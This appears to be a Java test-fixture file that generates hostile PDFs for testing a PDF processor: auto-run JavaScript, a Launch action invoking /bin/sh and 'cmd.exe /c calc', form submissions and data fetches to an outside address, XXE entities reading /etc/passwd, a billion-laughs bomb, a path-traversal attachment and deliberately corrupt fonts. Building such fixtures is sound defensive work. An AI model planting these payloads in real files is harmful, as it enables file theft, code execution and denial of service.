package org.candour.plans.hostile;

import static org.candour.plans.MadePdf.pdf;
import static org.candour.plans.hostile.HostileFile.SENTENCE;
import static org.candour.plans.hostile.HostileFile.mute;
import static org.candour.plans.hostile.HostileFile.of;
import static org.candour.plans.hostile.RawPdf.bytes;
import static org.candour.plans.hostile.RawPdf.good;
import static org.candour.plans.hostile.RawPdf.page;

import java.util.List;
import java.util.stream.Stream;

/** PDFs that would run something, open something else, or show what they do not say. */
final class HostileActions {

    private static final String FONT = "<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts";

    private HostileActions() {}

    /** @param address of a server that must never be asked for anything */
    static Stream<HostileFile> all(String address) {
        return Stream.concat(actions(address).stream(), fonts().stream());
    }

    private static HostileFile opens(String name, String action) {
        return of(name + ".pdf", () -> good().catalog("/OpenAction<<" + action + ">>/AA<</WC<<" + action + ">>>>")
                .set(3, page("/AA<</O<<" + action + ">>>>"))
                .bytes());
    }

    private static List<HostileFile> actions(String address) {
        return List.of(
                opens("script", "/S/JavaScript/JS(app.launchURL\\('" + address + "/script'\\);while\\(1\\){})"),
                opens("launch", "/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>"),
                opens("address", "/S/URI/URI(" + address + "/uri)"),
                opens("form-sent", "/S/SubmitForm/F<</FS/URL/F(" + address + "/form)>>/Flags 4"),
                opens("data-fetched", "/S/ImportData/F<</FS/URL/F(" + address + "/data)>>"),
                opens("remote", "/S/GoToR/F<</FS/URL/F(" + address + "/remote)>>/D[0/Fit]"),
                of("stream-elsewhere.pdf", () -> good().setStream(
                                4, "/F<</FS/URL/F(" + address + "/stream)>>", bytes(RawPdf.TEXT))
                        .bytes()),
                of("stream-of-passwords.pdf", () -> good().setStream(4, "/F(/etc/passwd)", bytes(RawPdf.TEXT))
                        .bytes()),
                of("program-attached.pdf", () -> pdf().text(SENTENCE)
                        .attached("../../run.exe", bytes("MZ\0\0program"))
                        .bytes()),
                of("loop-attached.pdf", () -> pdf().text(SENTENCE)
                        .attached(
                                "a.pdf",
                                pdf().attached(
                                                "b.pdf",
                                                pdf().attached(
                                                                "c.pdf",
                                                                pdf().attached("d.pdf", good().bytes())
                                                                        .bytes())
                                                        .bytes())
                                        .bytes())
                        .bytes()),
                of("form-of-entities.pdf", () -> good().catalog("/AcroForm<</Fields[]/XFA 6 0 R>>").stream(
                                "",
                                bytes(
                                        "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\"><!ENTITY b SYSTEM \""
                                                + address
                                                + "/xfa\">]><xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><p>&a;&b;</p></xdp:xdp>"))
                        .bytes()),
                of("form-of-laughs.pdf", () -> good().catalog("/AcroForm<</Fields[]/XFA[(a)6 0 R(b)6 0 R]>>").stream(
                                "", bytes(Laughs.doctype("x") + "<x>&l9;</x>"))
                        .bytes()),
                of("metadata-of-entities.pdf", () -> good().catalog("/Metadata 6 0 R").stream(
                                "/Type/Metadata/Subtype/XML",
                                bytes("<!DOCTYPE x SYSTEM \"" + address + "/dtd\"><x>&a;</x>"))
                        .bytes()));
    }

    private static HostileFile font(String name, String font, String... objects) {
        return of(name + ".pdf", () -> {
            RawPdf pdf = good().set(5, font);
            for (String object : objects) {
                pdf.add(object);
            }
            return pdf.bytes();
        });
    }

    private static List<HostileFile> fonts() {
        String descriptor = "/FontDescriptor<</Type/FontDescriptor/FontName/X/Flags 4/FontFile";
        return List.of(
                font("font-no-descendant", FONT + "[]>>"),
                font("font-own-descendant", FONT + "[5 0 R]>>"),
                font("font-missing", "null"),
                font("font-is-number", "42"),
                font(
                        "font-of-junk",
                        "<</Type/Font/Subtype/TrueType/BaseFont/X" + descriptor + "2 6 0 R>>>>",
                        "<</Length 3>>stream\nxxx\nendstream"),
                font(
                        "font-type1-junk",
                        "<</Type/Font/Subtype/Type1/BaseFont/X" + descriptor + " 6 0 R>>>>",
                        "<</Length 9999999/Length1 -5>>stream\n%!PS\nendstream"),
                font(
                        "font-cff-junk",
                        "<</Type/Font/Subtype/Type1/BaseFont/X" + descriptor + "3 6 0 R>>>>",
                        "<</Length 4/Subtype/Type1C>>stream\n\1\0\4\4\nendstream"),
                font(
                        "map-uses-itself",
                        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>",
                        "<</Length 19/UseCMap 6 0 R>>stream\nbegincmap endcmap  \nendstream"),
                font(
                        "map-of-junk",
                        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>",
                        "<</Length 60>>stream\n9 beginbfchar <00 <> << >> endbfchar <0041> (x) 1 beginbfrange\nendstream"),
                mute(
                        "map-lies.pdf",
                        () -> good().set(5, "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>").stream(
                                        "",
                                        bytes("begincmap 1 begincodespacerange <00> <ff> endcodespacerange"
                                                + " 1 beginbfrange <20> <7e> <0041> endbfrange endcmap"))
                                .bytes()));
    }
}
